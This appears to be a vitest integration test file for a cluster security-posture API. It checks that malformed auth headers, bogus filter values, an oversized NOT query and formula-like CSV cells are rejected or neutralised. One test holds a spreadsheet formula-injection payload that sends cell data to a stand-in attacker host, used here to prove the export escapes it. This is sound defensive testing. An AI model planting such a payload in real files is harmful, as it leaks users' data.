// Hostile requests over the real HTTP path (local host server → catalog handler → workflows):
// malformed principals are 401, unknown filter values are 400 naming what is allowed, a 2,000× NOT
// query is 400, and a CSV export neutralises formula-like cells. The function-level checks live in
// hygiene.test.ts; these prove the same answers reach an HTTP caller.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ClusterRecord } from "../../shared/azure/model.js";
import type { LocalHost } from "../../shared/host/local-host.js";
import { parseAccessMap } from "../../shared/workflows/access.js";
import type { Dependencies } from "../../shared/workflows/dependencies.js";
import { SEVERITIES } from "../../shared/scanner/model.js";
import { graphActivities } from "../../shared/workflows/graph.js";
import { ACTIVITIES } from "../../shared/workflows/names.js";
import { PATH_FILTER_VALUES } from "../../shared/workflows/read-model.js";
import { HARDENED_CLUSTER, hardenedEstate, snapshotOf } from "../posture/fixtures.js";
import { testHost } from "../support/host.js";
import { notChain } from "./generators.js";

const READER = "aaaaaaaa-0000-4000-8000-00000000000a";
const record: ClusterRecord = { ...HARDENED_CLUSTER, state: "bound" };

let host: LocalHost;
let deps: Dependencies;
let base: string;

const b64 = (v: unknown) => Buffer.from(typeof v === "string" ? v : JSON.stringify(v)).toString("base64");
const principal = (oid: string) => ({ "x-ms-client-principal": b64({ claims: [{ typ: "oid", val: oid }] }) });
const asReader = principal(READER);

async function call(path: string, init: RequestInit = {}): Promise<{ status: number; code: string; message: string }> {
  const res = await fetch(`${base}${path}`, init);
  const text = await res.text();
  let body: { error?: { code: string; message: string } } = {};
  try {
    body = JSON.parse(text);
  } catch {
    /* a non-JSON answer fails the expectations below with its status */
  }
  return { status: res.status, code: body.error?.code ?? "", message: body.error?.message ?? "" };
}

const query = (body: unknown, headers: Record<string, string> = {}) =>
  fetch(`${base}/api/query`, { method: "POST", body: JSON.stringify(body), headers: { "content-type": "application/json", ...asReader, ...headers } });

beforeAll(async () => {
  ({ host, deps } = testHost("hh"));
  for (const t of Object.values(deps.state)) if (t && typeof t === "object" && "ensure" in t) await (t as { ensure(): Promise<void> }).ensure();
  await host.start();
  base = host.http!.url;
  deps.config.access = parseAccessMap(JSON.stringify({ [READER]: [record.subscriptionId] }));
  // One cluster with a stored snapshot and graph, so queries and exports have rows to answer.
  await deps.state.clusters.upsert(record.subscriptionId, record.id, record);
  await deps.snapshots.store(record.subscriptionId, record, { ...snapshotOf(hardenedEstate(), { ...HARDENED_CLUSTER }), source: "live" });
  expect(await graphActivities(deps)[ACTIVITIES.buildGraph]!({ clusterId: record.id })).toMatchObject({ ok: true });
}, 120_000);
afterAll(async () => {
  await host?.stop();
});

describe("hostile requests over HTTP", () => {
  it("a malformed x-ms-client-principal is 401 on every read, never 500", async () => {
    const malformed = ["%%%", b64("not json"), b64("null"), b64("[]"), b64({ claims: 5 }), b64({ claims: [null] }), b64({ claims: [{ typ: 1, val: "x" }] }), b64({ claims: [{ typ: "oid", val: {} }] })];
    for (const bad of malformed) {
      for (const path of ["/api/findings", "/api/attack-paths", "/api/clusters"]) {
        expect(await call(path, { headers: { "x-ms-client-principal": bad } }), `${path} with ${bad}`).toMatchObject({ status: 401, code: "Unauthorized" });
      }
      const res = await fetch(`${base}/api/query`, { method: "POST", body: JSON.stringify({ query: "MATCH (p:Pod) RETURN p" }), headers: { "x-ms-client-principal": bad } });
      expect(res.status, `query with ${bad}`).toBe(401);
    }
    // The same request with a well-formed principal is answered: the 401s are about the header.
    expect((await fetch(`${base}/api/findings`, { headers: asReader })).status).toBe(200);
  });

  it("unknown filter values are 400 naming the allowed values", async () => {
    const escape = (t: string) => t.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    const cases: [string, RegExp][] = [
      ...Object.entries(PATH_FILTER_VALUES).map(([key, allowed]): [string, RegExp] => [`/api/attack-paths?${key}=bogus`, new RegExp(escape(`unknown ${key} "bogus" (expected one of ${allowed.join(", ")})`))]),
      ["/api/findings?severity=critical,bogus", new RegExp(escape(`severity must be one of ${SEVERITIES.join(", ")} (got "bogus")`))],
      ["/api/findings?knownExploited=maybe", /knownExploited must be true or false \(got "maybe"\)/],
      ["/api/findings?exposed=maybe", /exposed must be true or false \(got "maybe"\)/],
    ];
    for (const [path, message] of cases) expect(await call(path, { headers: asReader }), path).toMatchObject({ status: 400, message: expect.stringMatching(message) });
    // Valid values of the same filters are answered.
    for (const path of ["/api/attack-paths?risk=high&azure=false", "/api/findings?severity=critical,high&knownExploited=true&exposed=false"]) {
      expect((await fetch(`${base}${path}`, { headers: asReader })).status, path).toBe(200);
    }
  });

  it("a 2,000× NOT query is a 400 with a message, and the host keeps answering", async () => {
    const res = await query({ query: notChain(2000), cluster: record.name });
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: { code: string; message: string } }).error.message.length).toBeGreaterThan(0);
    const ok = await query({ query: notChain(10), cluster: record.name });
    expect(ok.status).toBe(200);
    expect((await fetch(`${base}/api/health`)).status).toBe(200);
  });

  it("a CSV export neutralises cells a spreadsheet would run as formulas", async () => {
    const hostile = '=HYPERLINK("http://attacker.example/?x="&A1)';
    const res = await query(
      { query: "MATCH (p:Pod) RETURN $a AS a, $b AS b, $c AS c, p.name AS name, -5 AS n LIMIT 1", params: { a: hostile, b: "@SUM(A1)", c: "+1" }, cluster: record.name },
      { accept: "text/csv" },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    const [header, row] = (await res.text()).split("\r\n");
    expect(header).toBe("a,b,c,name,n");
    const cells = row!.split(",");
    expect(cells[0]).toBe(`"'=HYPERLINK(""http://attacker.example/?x=""&A1)"`);
    expect(cells[1]).toBe("'@SUM(A1)");
    expect(cells[2]).toBe("'+1");
    expect(cells[3]).toMatch(/^[a-z]/); // a plain name is untouched
    expect(cells[4]).toBe("-5"); // numbers are left as they are
  });
});
